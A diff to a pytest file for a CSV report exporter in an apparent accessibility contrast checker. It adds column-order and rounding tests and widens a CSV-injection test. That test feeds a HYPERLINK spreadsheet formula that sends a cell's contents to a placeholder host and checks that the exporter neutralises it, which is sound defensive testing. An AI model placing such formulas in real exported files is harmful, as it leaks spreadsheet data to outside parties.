@@ -7,8 +7,11 @@ from dataclasses import replace
 import pytest
 from hypothesis import given
 
+from januslens.accessibility.check import Fixes, Reason
+from januslens.color.fix import Fix
 from januslens.exports.reports.csv import write
 from januslens.exports.reports.subject import Subject
+from januslens.text.run import Size
 from tests.januslens.exports.samples import CHECKS, EMPTY, FAILED, REPORT, few, subject, subjects
 
 
@@ -51,7 +54,45 @@ def test_a_check_is_a_row_with_all_that_was_measured() -> None:
         "fix_background": "",
         "fix_background_ratio": "",
         "message": "Text #777777 on #ffffff has a contrast of 4.47:1; it needs 4.5:1.",
-    } | {"issue": first["issue"]}
+    }
+
+
+def test_columns_come_in_this_order() -> None:
+    assert write(subject(EMPTY)).strip().split(",") == [
+        *("image", "issue", "rule", "criterion", "level", "outcome", "reason", "severity"),
+        *("x", "y", "width", "height"),
+        *("text", "foreground", "background", "ratio", "ratio_low", "ratio_high", "required"),
+        *("size", "size_low", "size_high"),
+        *("fix_foreground", "fix_foreground_ratio", "fix_background", "fix_background_ratio", "message"),
+    ]
+
+
+def test_measures_are_cut_and_rounded_so_that_they_claim_nothing_more() -> None:
+    check = replace(
+        FAILED,
+        reason=Reason.GRADIENT,
+        severity=0.12345,
+        ratio=4.4999,
+        interval=(4.4999, 4.5001),
+        size=Size(14.06, 12.94, 15.26),
+        fixes=Fixes(None, Fix((0, 0, 0), 7.999, 1.0)),
+    )
+    (row,) = rows(subject(replace(REPORT, checks=(check,))))
+    written = {
+        "reason": "bgGradient",
+        "severity": "0.123",
+        "ratio": "4.49",
+        "ratio_low": "4.49",
+        "ratio_high": "4.51",
+        "size": "14.1",
+        "size_low": "12.9",
+        "size_high": "15.3",
+        "fix_foreground": "",
+        "fix_foreground_ratio": "",
+        "fix_background": "#000000",
+        "fix_background_ratio": "7.99",
+    }
+    assert {column: row[column] for column in written} == written
 
 
 @few
@@ -79,7 +120,7 @@ def test_a_report_of_nothing_has_its_header() -> None:
     assert write(subject(EMPTY)).startswith("image,issue,rule,criterion,level,outcome,")
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
 def test_no_cell_is_a_formula(start: str) -> None:
     formula = f'{start}HYPERLINK("http://a.example?x="&A1,"Click")'
     assert one(formula)["text"] == f"'{formula}"
